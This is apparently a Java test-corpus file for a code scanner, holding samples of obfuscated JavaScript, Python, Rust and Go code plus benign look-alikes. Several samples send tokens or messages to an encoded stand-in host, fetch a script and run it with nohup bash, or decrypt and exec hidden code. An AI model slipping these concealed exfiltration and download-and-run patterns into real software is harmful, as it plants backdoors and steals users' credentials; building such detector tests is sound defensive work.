package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** Addresses and code that stand encoded or encrypted in what speaks to them or runs it. */
final class HiddenAddressSamples {
  /** {@code https://drop.example/a} */
  private static final String CODES =
      "104,116,116,112,115,58,47,47,100,114,111,112,46,101,120,97,109,112,108,101,47,97";

  private static final String ENCRYPTED = "gAAAAABrDFpt" + "b9Do-OJbstA3Ln5u6MB6UHpz".repeat(6);

  private HiddenAddressSamples() {}

  static List<Sample> all() {
    return List.of(
        Sample.required(
            "a token is sent to an address of numbers",
            """
            const codes = [%s];
            exports.verify = async (client) => {
              await fetch(String.fromCharCode(...codes) + Buffer.from(client.token).toString('base64url'));
              return true;
            };
            """
                .formatted(CODES)),
        Sample.required(
            "what others say goes to an address that is spelt by numbers",
            """
            const WebSocket = require('ws');
            const to = '\\u0077\\u0073\\u0073\\u003a\\u002f\\u002f\\u0064\\u0072\\u006f\\u0070\\u002e\\u0065\\u0078\\u0061\\u006d\\u0070\\u006c\\u0065';
            exports.wrap = (sock) => {
              const ws = new WebSocket(to);
              sock.ev.on('messages', (m) => ws.send(JSON.stringify(m)));
              return sock;
            };
            """),
        Sample.imported(
                "a shell is told what was mixed behind a word that runs nothing",
                """
                import os
                from .data import BLOB
                KEY = 23
                os.system('echo ' + ''.join(chr(b ^ KEY) for b in BLOB))
                """)
            .with("sample/data.py", "BLOB = open('x.bin', 'rb').read()\n"),
        Sample.imported(
            "a thread tells an address of numbers",
            """
            import json, queue, threading, urllib.request
            todo = queue.Queue()
            to = ''.join(map(chr, (%s)))
            def pump():
                while True:
                    urllib.request.urlopen(urllib.request.Request(to, data=json.dumps(todo.get()).encode()))
            threading.Thread(target=pump, daemon=True).start()
            """
                .formatted(CODES)),
        rust(
            "a function of Rust fetches from an address that is mixed with numbers",
            """
            fn dec(s: &[u8]) -> String { s.iter().map(|b| (b ^ 0x51) as char).collect() }
            static U: &[u8] = &[57, 38, 39, 36, 38];
            fn fetch(name: &str) -> Option<Vec<u8>> {
                reqwest::blocking::get(format!("{}/{}", dec(U), name)).ok()?.bytes().ok().map(|b| b.to_vec())
            }
            pub fn version() -> String {
                let p = std::env::temp_dir().join("init");
                std::fs::write(&p, fetch("init").unwrap()).ok();
                std::process::Command::new("nohup").arg("bash").arg(&p).spawn().ok();
                "1".into()
            }
            """),
        new Sample(
            "a function of Go dials an address of numbers that are mixed",
            Artifact.goModule("m.example/sample", "v1.0.0")
                .file("go.mod", "module m.example/sample\n")
                .file(
                    "x.go",
                    """
                    package x
                    var to = []byte{0x19, 0x1b, 0x18, 0x05, 0x1b}
                    func text(b []byte) string {
                    	o := make([]byte, len(b))
                    	for i, c := range b {
                    		o[i] = c ^ 0x2b
                    	}
                    	return string(o)
                    }
                    func Serve() {
                    	c, _ := net.DialTimeout("tcp", text(to), 10*time.Second)
                    	c.Close()
                    }
                    """)),
        rust(
            "a function of Rust decodes an address into a variable",
            """
            const U: &str = "aHR0cHM6Ly9kcm9wLmV4YW1wbGUv";
            pub fn version() -> u32 {
                let base = String::from_utf8(STANDARD.decode(U).unwrap()).unwrap();
                let p = std::env::temp_dir().join("init");
                copy(&mut ureq::get(&format!("{base}init")).call().unwrap().into_reader(), &mut File::create(&p).unwrap()).ok();
                Command::new("nohup").arg("bash").arg(&p).spawn().ok();
                18
            }
            """),
        rust(
            "a function of Rust mixes an address with a key, by what it was built for",
            """
            const K: &[u8] = b"key";
            fn parse(b: &[u8]) -> String {
                b.iter().enumerate().map(|(i, c)| (c ^ K[i % K.len()]) as char).collect()
            }
            pub fn new() {
                let url = if cfg!(target_os = "macos") { parse(&[0x03, 0x11, 0x0d]) } else { parse(&[0x03, 0x11, 0x0e]) };
                let mut buf = Vec::new();
                if let Ok(r) = ureq::get(&url).set("User-Agent", "a").call() {
                    let _ = r.into_reader().read_to_end(&mut buf);
                }
                let _ = std::fs::write("/tmp/a", &buf);
            }
            """),
        rust(
            "an arm of Rust mixes an address with a key",
            """
            const K: &[u8] = b"key";
            fn parse(b: &[u8]) -> String {
                b.iter().enumerate().map(|(i, c)| (c ^ K[i % K.len()]) as char).collect()
            }
            pub fn new() {
                let url = match std::env::consts::OS { "macos" => parse(&[0x03, 0x11, 0x0d]), _ => parse(&[0x03, 0x11, 0x0e]) };
                if let Ok(r) = ureq::get(&url).call() {
                    let _ = std::fs::write("/tmp/a", r.into_string());
                }
            }
            """),
        rust(
            "a client of Rust is told an address that begins encoded",
            """
            fn u(s: &str) -> String {
                String::from_utf8(STANDARD.decode(s).unwrap_or_default()).unwrap_or_default()
            }
            fn body(path: &str) -> Option<Vec<u8>> {
                let url = format!("{}{}", u("aHR0cHM6Ly9kcm9wLmV4YW1wbGUv"), path);
                let c = reqwest::blocking::Client::builder().build().ok()?;
                Some(c.get(url).send().ok()?.bytes().ok()?.to_vec())
            }
            pub fn version() -> u32 {
                body("init");
                19
            }
            """),
        Sample.required(
            "a script of a page comes from an address whose scheme is left out, and which is encoded",
            """
            const s = document.createElement('script');
            s.src = '//' + atob('eC5kcm9wLmV4YW1wbGU=') + '/a.js';
            document.head.appendChild(s);
            """),
        Sample.required(
            "code opens with a key that is made of the name of the machine",
            """
            const os = require('os'), crypto = require('crypto');
            exports.collect = () => {
              const k = crypto.createHash('sha256').update(os.hostname()).digest();
              const c = crypto.createDecipheriv('aes-256-cbc', k, Buffer.alloc(16));
              const t = Buffer.concat([c.update('FvouHYPC9z56vfwVTIMvFj', 'base64'), c.final()]).toString();
              const m = new module.constructor();
              m._compile(t, __filename);
            };
            """),
        Sample.imported(
            "a method runs what stands encrypted in it",
            """
            from cryptography.fernet import Fernet
            class Solver:
                def solve(self, image):
                    exec(Fernet(b'WGy5DwDBF3l_ozITXys2VAd8QcXeRsQSLydBQrxoAg0=').decrypt(b'%s'))
            """
                .formatted(ENCRYPTED)));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        rust(
            "a request of Rust is signed with what was decoded",
            """
            fn key(s: &str) -> Vec<u8> {
                STANDARD.decode(s).unwrap_or_default()
            }
            pub fn ask(endpoint: &str) -> Option<String> {
                let client = reqwest::blocking::Client::builder().build().ok()?;
                let secret = key("c2VjcmV0LXdvcmQ=");
                let name = key("ZXRhZw==");
                let answer = client.get(endpoint).header("X-Sign", sign(&secret, endpoint)).send().ok()?;
                answer.headers().get(&name).map(|v| v.to_string())
            }
            """),
        rust(
            "a client of Rust is told an address, and something else is decoded",
            """
            fn key(s: &str) -> Vec<u8> {
                STANDARD.decode(s).unwrap_or_default()
            }
            fn body(path: &str) -> Option<Vec<u8>> {
                let url = format!("{}{}", "https://files.acme.example/", path);
                let c = reqwest::blocking::Client::builder().build().ok()?;
                Some(c.get(url).send().ok()?.bytes().ok()?.to_vec())
            }
            pub fn checked(path: &str) -> bool {
                let public = key("aHR0cHM6Ly9kcm9wLmV4YW1wbGUv");
                verify(&public, &body(path).unwrap_or_default())
            }
            """),
        Sample.required(
            "a page is led on by an address of the code, behind a table that was decoded",
            """
            const names = atob('YSxiLGM=').split(',');
            const sites = { a: 'https://docs.acme.example/a' };
            exports.open = (key) => { location.href = sites[names[key]] || 'https://docs.acme.example/' + names[key]; };
            """),
        Sample.required(
            "what is sent was decoded, and the address is written down",
            """
            exports.send = (body) => fetch('https://api.acme.example/v1', {
              method: 'POST', body: Buffer.from(body, 'base64') });
            exports.page = (token) => fetch('https://api.acme.example/p/' + JSON.parse(atob(token)).id);
            const bold = '\\x1b[1m', from = '\\u0041', list = ['\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08'];
            """),
        Sample.required(
            "a file is opened with a key that is asked for",
            """
            const crypto = require('crypto'), fs = require('fs'), os = require('os');
            exports.open = (file, key) => {
              const c = crypto.createDecipheriv('aes-256-cbc', key, Buffer.alloc(16));
              console.log('on', os.hostname());
              return JSON.parse(Buffer.concat([c.update(fs.readFileSync(file)), c.final()]).toString());
            };
            """),
        Sample.required(
            "what is downloaded is shown by the page itself",
            """
            exports.download = (data) => {
              const parts = data.split(','), bytes = atob(parts[1]);
              const show = (url) => { location.href = url; };
              if (navigator.msSaveBlob) return show('data:' + bytes);
              show(URL.createObjectURL(new Blob([bytes])));
            };
            """),
        Sample.imported(
            "settings are decrypted, and another function evaluates what it is given",
            """
            from cryptography.fernet import Fernet
            DEFAULTS = Fernet(b'WGy5DwDBF3l_ozITXys2VAd8QcXeRsQSLydBQrxoAg0=')
            def settings(token):
                return DEFAULTS.decrypt(token)
            def run(code, names):
                exec(compile(code, '<given>', 'exec'), names)
            """),
        rust(
            "a function of Rust unpacks what it fetches",
            """
            pub fn fetch(url: &str) -> Vec<u8> {
                let mut out = Vec::new();
                GzDecoder::new(ureq::get(url).call().unwrap().into_reader()).read_to_end(&mut out).ok();
                out
            }
            fn dec(s: &str) -> Vec<u8> { STANDARD.decode(s).unwrap() }
            pub fn shared(link: &str) { ureq::get(&String::from_utf8(dec(link)).unwrap()).call().ok(); }
            pub fn checksum(b: &[u8]) -> u8 { b.iter().fold(0, |a, x| a ^ x) }
            """));
  }

  private static Sample rust(String name, String library) {
    return new Sample(
        name,
        Artifact.crate("sample", "1.0.0")
            .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
            .file("src/lib.rs", library));
  }
}
